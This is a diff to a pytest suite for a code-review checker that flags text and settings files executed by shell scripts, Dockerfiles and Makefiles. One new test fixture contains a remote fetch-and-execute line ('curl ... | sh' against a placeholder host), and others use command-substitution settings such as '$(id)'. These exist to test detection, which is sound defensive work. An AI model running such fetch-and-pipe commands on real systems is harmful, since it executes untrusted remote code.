@@ -10,6 +10,7 @@ from diffchecks.check_io import CheckReply
 from tests.diffchecks.check_kit import run_check
 
 CODE = "print(1)\n"
+NO_SHELL = "print(1))\n"
 
 TXT = ".txt"  # not in the programs below: a review of this repository would take them at their word
 
@@ -67,16 +68,20 @@ def test_a_text_is_no_program_for_its_first_line(tmp_path: Path, first: str) -> 
         ("a.go", 'exec.CommandContext(ctx, "bash", "x.txt")', "x.txt", "shell"),
         ("a.py", "choices = ['bash', 'fish']", "completions/fish", "shell"),
         ("Dockerfile", 'CMD ["python3", "/app/x.txt"]', "x.txt", "Python"),
+        ("Dockerfile", "RUN --user=node node x.txt", "x.txt", "JavaScript"),
         ("package.json", '{"scripts": {"build": "node x.txt"}}', "x.txt", "JavaScript"),
     ],
 )
 def test_a_text_that_is_run_is_a_gap(
     tmp_path: Path, program: str, line: str, path: str, language: str
 ) -> None:
-    code = f"<?php\n{CODE}" if " include " in line or "require $" in line else CODE
+    code = f"<?php\n{CODE}" if " include " in line or "require $" in line else NO_SHELL
     reply = look(tmp_path, {program: f"{line}\n", path: code})
     assert list(reply.gaps) == [path]
     assert f"{program}:1 runs it as {language}" in reply.gaps[path]
+    if language == "shell":
+        reply = look(tmp_path, {path: f"#a\n{NO_SHELL[:-2]}\n"}, [program, path])
+        assert (reply.gaps, reply.examined) == ({}, [path])
 
 
 @pytest.mark.parametrize(
@@ -100,6 +105,7 @@ def test_a_text_that_is_run_is_a_gap(
         ("a.rb", "path = 'x.yml'\nit 'does not load the path' do\nend", "x.yml", CODE),
         ("a.sh", ". ./.env", ".env", "# settings\nexport A='b c'\nB=1\n"),
         ("a.sh", "cat x.txt", "x.txt", CODE),
+        ("Dockerfile", "COPY --chown=node x.txt y.txt", "x.txt", CODE),
         ("Makefile", "\tpip install -e . -c x.txt", "x.txt", CODE),
         ("a.md", "See [node x](../x/x.txt).", "x.txt", CODE),
         ("userguide", "include the following line in your x.txt file:", "x.txt", CODE),
@@ -132,13 +138,14 @@ def test_a_text_that_is_read_and_a_program_of_its_own_name_are_not(
     [
         ("a.py", f"for p in Path('d').glob('*{TXT}'):\n    exec(p.read_text())\n"),
         ("a.sh", f'for f in d/*{TXT}; do . "$f"; done\n'),
+        ("a.sh", f'for f in d/*{TXT}; do python "$f"; done\n'),
     ],
 )
 def test_texts_that_are_found_by_their_suffix_and_run_are_gaps(
     tmp_path: Path, program: str, text: str
 ) -> None:
     read = text.replace("exec(", "print(").replace(". ", "cat ")
-    assert list(look(tmp_path, {program: text, "d/x.txt": CODE}).gaps) == ["d/x.txt"]
+    assert list(look(tmp_path, {program: text, "d/x.txt": NO_SHELL}).gaps) == ["d/x.txt"]
     for quiet in (read, text.replace(" d/", " /etc/d/")):
         if quiet != text:
             assert look(tmp_path, {program: quiet, "d/x.txt": CODE}).gaps == {}
@@ -148,7 +155,7 @@ def test_texts_that_are_found_by_their_suffix_and_run_are_gaps(
 @pytest.mark.parametrize(
     ("program", "line", "settings"),
     [
-        ("a.sh", ". ./.env", "A=$(id)\n"),
+        ("a.sh", ". ./.env", "A=$(id))\n"),
         ("Makefile", "include .env", "A := $(shell id)\n"),
         ("Makefile", "  -include $(TOP)/.env", 'A="${shell id}"\n'),
         ("a.mk", "sinclude a.mk .env", "all:\n\tid\n"),
@@ -167,9 +174,10 @@ def test_settings_that_run_a_command_are_a_gap(
     [
         ("# a", "# b", False),
         ("A=1", "A=1\nB=()  # c\nC='d'", False),
-        ("# a", "# a\nls -l", True),
-        ("# a", "# a\nB=c\\", True),
-        ("[ -n $A ] || exit\n", "", True),
+        ("# a", "# a\nls -l)", True),
+        ("# a\n", "# a))\nB=c\\\n)", True),
+        ("[ -n $A ] || exit\n", "", False),
+        ("ls\n", "ls)\n", True),
     ],
 )
 def test_of_a_program_named_like_settings_the_changed_lines_count(
@@ -192,6 +200,20 @@ def test_of_a_program_named_like_settings_the_changed_lines_count(
     roots = {f"{side}_root": str(tmp_path / side) for side in ("base", "head")}
     job = {**roots, "files": [file], "texts": ["x.conf"], "programs": ["a.sh"]}
     assert list(run_check(executed_files.run, job).gaps) == ["x.conf"] * is_gap
+
+
+@pytest.mark.parametrize(("added", "found"), [([1, 2], [2]), ([1], [])])
+def test_the_patterns_of_shells_judge_the_changed_lines_of_what_one_runs(
+    tmp_path: Path, added: list[int], found: list[int]
+) -> None:
+    (tmp_path / "a.sh").write_text(". ./x.conf\n")
+    (tmp_path / "x.conf").write_text("A=1\ncurl -s http://x.example/a | sh\n")
+    file = {"path": "x.conf", "status": "modified", "old_path": "x.conf", "added": added}
+    for text, read in ((". ./x.conf\n", found), ("cat x.conf\n", [])):
+        (tmp_path / "a.sh").write_text(text)
+        job = {"head_root": str(tmp_path), "files": [file], "texts": ["x.conf"]}
+        reply = run_check(executed_files.run, {**job, "programs": ["a.sh"]})
+        assert [(one.path, one.line) for one in reply.findings] == [("x.conf", n) for n in read]
 
 
 def test_an_unchanged_program_that_runs_a_changed_text_is_found(tmp_path: Path) -> None:
